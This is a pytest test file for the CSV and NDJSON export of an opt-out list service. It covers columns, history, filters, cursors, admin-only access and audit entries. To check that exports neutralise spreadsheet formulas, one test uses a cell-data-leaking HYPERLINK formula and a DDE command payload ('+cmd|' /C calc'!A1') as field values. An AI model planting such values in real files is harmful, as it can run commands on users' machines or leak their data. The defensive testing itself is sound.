"""The content of an export, the right to make one, and its entry in the audit. docs/interface.md section D12."""

import io
from typing import Any

import pytest
from stoplist_addresses.lists import ListOptions, open_list

from stoplist.errors import Forbidden, Missing, Refused
from stoplist.lists.exports import snapshot
from stoplist.lists.exports.layouts import COLUMNS, HISTORY_COLUMNS, LAYOUTS, NDJSON
from stoplist.oauth.credentials import Changes, update_credential
from stoplist.organizations.groups import retire_group
from stoplist.organizations.organizations import close_organization
from stoplist.records.filters import ALL_GROUPS_FILTER
from tests.builders import ADMINISTRATOR, audit_rows
from tests.deployment import in_loop
from tests.lists.exports.export_fixture import begin, csv_rows, exported, ndjson_rows, whole
from tests.unsubscribes.partner import OptOutDeployment, Organization, back, out
from tests.unsubscribes.people import BOSS, admin, person, viewer


async def three_records(deployment: OptOutDeployment) -> tuple[Organization, str]:
    """Return an organization whose ann left a group, ben everything, and cyn another group and came back."""
    organization = await deployment.new_organization()
    reminders = await organization.new_group("Reminders")
    await organization.submit(out("ann@x.org", deployment.ago(9), source="a form", reason="complaint"))
    deployment.clock.advance(60)
    await organization.submit(out("ben@x.org"), all_groups=True)
    await organization.submit(out("cyn@x.org", deployment.ago(5)), group_id=reminders)
    await organization.submit(back("cyn@x.org", deployment.ago(0)), group_id=reminders)
    return organization, reminders


@in_loop
async def test_a_row_has_the_fields_of_its_record(deployment: OptOutDeployment) -> None:
    """The rows are in the order of `seq`; no group means all groups."""
    organization, _ = await three_records(deployment)
    file = await whole(await begin(organization))
    rows = csv_rows(file)
    assert file.startswith(",".join(COLUMNS).encode() + b"\r\n")
    feed = await organization.feed()
    assert rows == [
        {
            "id": record.id,
            "org_slug": organization.slug,
            "address": record.address,
            "address_digest": "",
            "key_fingerprint": "",
            "group_id": record.group_id or "",
            "status": record.status,
            "reason": record.reason,
            "occurred_at": record.occurred_at,
            "recorded_at": record.recorded_at,
            "source": record.source or "",
            "seq": str(record.seq),
        }
        for record in feed
    ]
    assert [row["seq"] for row in rows] == ["1", "2", "4"]
    lines = ndjson_rows(await whole(await begin(organization, layout=NDJSON)))
    assert [list(line) for line in lines] == [list(COLUMNS)] * 3
    assert [{name: "" if line[name] is None else str(line[name]) for name in COLUMNS} for line in lines] == rows
    assert lines[1]["group_id"] is None


@in_loop
async def test_history_has_every_version_and_its_sender(deployment: OptOutDeployment) -> None:
    """The label of a key is shown to those who see the key."""
    organization, reminders = await three_records(deployment)
    file = await whole(await begin(organization, has_history=True))
    rows = csv_rows(file)
    assert list(rows[0]) == list(HISTORY_COLUMNS)
    assert [(row["seq"], row["status"]) for row in rows] == [
        ("1", "unsubscribed"),
        ("2", "unsubscribed"),
        ("3", "unsubscribed"),
        ("4", "resubscribed"),
    ]
    assert rows[2]["id"] == rows[3]["id"]
    assert rows[2]["submission_id"] != rows[3]["submission_id"]
    assert rows[3]["group_id"] == reminders
    assert {(row["actor_kind"], row["actor_id"], row["actor_label"]) for row in rows} == {
        ("client", organization.partner.id, "partner")
    }
    lines = ndjson_rows(await whole(await begin(organization, has_history=True, layout=NDJSON)))
    assert [list(line) for line in lines] == [list(HISTORY_COLUMNS)] * 4
    assert lines[0]["actor_label"] == "partner"


@in_loop
async def test_a_group_is_exported_as_partners_follow_it(deployment: OptOutDeployment) -> None:
    """Records for all groups bar its messages and are included; the cursor is that of the group."""
    organization, reminders = await three_records(deployment)
    export = await begin(organization, group_id=reminders)
    rows = csv_rows(await whole(export))
    assert [row["address"] for row in rows] == ["ben@x.org", "cyn@x.org"]
    await organization.submit(out("dan@x.org"))
    await organization.submit(out("eva@x.org"), group_id=reminders)
    assert [one.address for one in await organization.feed(export.next_cursor, group_id=reminders)] == ["eva@x.org"]


@in_loop
async def test_filters_leave_out_what_they_name(deployment: OptOutDeployment) -> None:
    organization, reminders = await three_records(deployment)

    async def addresses(**wanted: Any) -> list[str]:
        return [row["address"][:3] for row in await exported(organization, **wanted)]

    assert await addresses(status="unsubscribed") == ["ann", "ben"]
    assert await addresses(status="resubscribed") == ["cyn"]
    assert await addresses(reason="complaint") == ["ann"]
    assert await addresses(only_group=ALL_GROUPS_FILTER) == ["ben"]
    assert await addresses(only_group=reminders) == ["cyn"]
    assert await addresses(recorded_from_ms=deployment.now_ms) == ["ben", "cyn"]
    assert await addresses(recorded_until_ms=deployment.now_ms) == ["ann"]
    assert await addresses(recorded_until_ms=deployment.now_ms, reason="legal") == []
    assert await addresses(status="unsubscribed", has_history=True) == ["ann", "ben", "cyn"]


@in_loop
async def test_the_cursor_goes_on_after_the_export(deployment: OptOutDeployment) -> None:
    """This holds for a feed that nobody has written or followed yet, too."""
    organization = await deployment.new_organization()
    export = await begin(organization)
    assert csv_rows(await whole(export)) == []
    await organization.submit(out("ann@x.org"))
    assert [one.address for one in await organization.feed(export.next_cursor)] == ["ann@x.org"]
    assert (await organization.follow((await begin(organization)).next_cursor)).has_more is False


@in_loop
async def test_wrong_filters_are_refused_before_anything_is_recorded(deployment: OptOutDeployment) -> None:
    organization, _ = await three_records(deployment)
    other = await deployment.new_organization()
    wrong: tuple[tuple[dict[str, Any], str], ...] = (
        ({"group_id": other.default_group}, "group"),
        ({"group_id": ALL_GROUPS_FILTER}, "group"),
        ({"group_id": "grp_\0"}, "group"),
        ({"only_group": other.default_group}, "group"),
        ({"status": "gone"}, "status"),
        ({"reason": "because"}, "reason"),
    )
    for wanted, field in wrong:
        with pytest.raises(Refused) as refused:
            await begin(organization, **wanted)
        assert refused.value.field == field
    assert await exports_of(organization) == []


@in_loop
async def test_only_admins_export(deployment: OptOutDeployment) -> None:
    """A viewer may not, and for an admin of another organization there is no such organization."""
    organization, _ = await three_records(deployment)
    other = await deployment.new_organization()
    with pytest.raises(Forbidden):
        await begin(organization, by=viewer(organization))
    for stranger in (admin(other), person("nobody@staff.example")):
        with pytest.raises(Missing):
            await begin(organization, by=stranger)
    assert await exports_of(organization) == []
    for allowed in (admin(organization), admin(organization, other), BOSS):
        assert len(csv_rows(await whole(await begin(organization, by=allowed)))) == 3


@in_loop
async def test_an_export_is_in_the_audit_before_it_is_read(deployment: OptOutDeployment) -> None:
    organization, reminders = await three_records(deployment)
    await begin(organization, group_id=reminders, status="unsubscribed", layout=NDJSON, has_history=True)
    (row,) = await exports_of(organization)
    assert row.actor == "person admin@staff.example"
    assert row.detail == {
        "channel": "email",
        "until_seq": 4,
        "group_id": reminders,
        "status": "unsubscribed",
        "layout": "ndjson",
        "has_history": True,
    }


@in_loop
async def test_closed_organizations_and_retired_groups_are_exported(deployment: OptOutDeployment) -> None:
    organization, reminders = await three_records(deployment)
    await retire_group(ADMINISTRATOR, deployment.database, deployment.clock, group_id=reminders)
    await close_organization(ADMINISTRATOR, deployment.database, deployment.clock, slug=organization.slug)
    assert [row["group_id"] for row in await exported(organization, only_group=reminders)] == [reminders]


@in_loop
async def test_other_channels_and_organizations_stay_out(deployment: OptOutDeployment) -> None:
    organization, _ = await three_records(deployment)
    await organization.on("sms").submit(out("+442079460018"))
    await (await deployment.new_organization()).submit(out("zoe@x.org"))
    assert [row["address"] for row in await exported(organization.on("sms"))] == ["+442079460018"]
    assert len(await exported(organization)) == 3


@in_loop
async def test_formulas_are_guarded_in_source_and_labels(deployment: OptOutDeployment) -> None:
    """Addresses are written as they are, and so is everything in NDJSON, which no spreadsheet opens."""
    organization = await deployment.new_organization()
    phone = organization.on("phone")
    formula = '=HYPERLINK("http://x"&A1,"a;b +c")' + "@" * 150
    label = "+cmd|" + "' /C calc'!A1" + "," * 40
    await update_credential(
        ADMINISTRATOR, deployment.database, deployment.clock, client_id=phone.partner.id, changes=Changes(label=label)
    )
    await phone.submit(out("+442079460018", source=formula), out("+442079460019", source=", plain"))
    first, second = await exported(phone, has_history=True)
    assert first["source"] == f"'{formula}"
    assert (first["address"], first["actor_label"]) == ("+442079460018", f"'{label}")
    assert second["source"] == ", plain"
    line, _ = ndjson_rows(await whole(await begin(phone, has_history=True, layout=NDJSON)))
    assert (line["source"], line["actor_label"]) == (formula, label)


@in_loop
async def test_an_export_imports_again_without_a_bad_row(deployment: OptOutDeployment) -> None:
    """Its format is known by its header; people who came back are no opt-outs, and a source is as it was."""
    organization = (await deployment.new_organization()).on("phone")
    await organization.submit(
        out("+442079460018", deployment.ago(7), source='=1+1, "a"\n;b' + "@" * 185, reason="complaint"),
        out("+442079460019", deployment.ago(6)),
    )
    await organization.submit(back("+442079460019", deployment.ago(0)))
    for layout in LAYOUTS:
        for has_history in (False, True):
            file = io.BytesIO(await whole(await begin(organization, layout=layout, has_history=has_history)))
            listed = open_list(file, ListOptions("phone", deployment.now_ms))
            (part,) = listed.parts()
            assert (listed.format, part.bad, part.not_opted_out, part.earlier_versions) == (
                *("stoplist", [], 1),
                int(has_history),
            )
            ((_, address, occurred_ms, reason, source),) = part.opt_outs
            assert (address, occurred_ms, reason) == ("+442079460018", deployment.now_ms - 7, "complaint")
            assert (source or "").startswith("=1+1")


@in_loop
async def test_an_export_is_read_in_parts(deployment: OptOutDeployment, monkeypatch: pytest.MonkeyPatch) -> None:
    """No part holds more than a bounded number of records, however large the feed is."""
    organization = await deployment.new_organization()
    for at in range(5):
        await organization.submit(*(out(f"p{n}@x.org") for n in range(at * 50, at * 50 + 50)))
    monkeypatch.setattr(snapshot, "PAGE_STATES", 40)
    for has_history in (False, True):
        export = await begin(organization, has_history=has_history)
        parts = [part async for part in export.parts()]
        assert max(part.count(b"\n") for part in parts) <= 40
        assert export.records == len(csv_rows(b"".join(parts))) == 250


async def exports_of(organization: Organization) -> list[Any]:
    rows = await audit_rows(organization.deployment.database)
    return [row for row in rows if (row.action, row.target) == ("organization.export", organization.slug)]
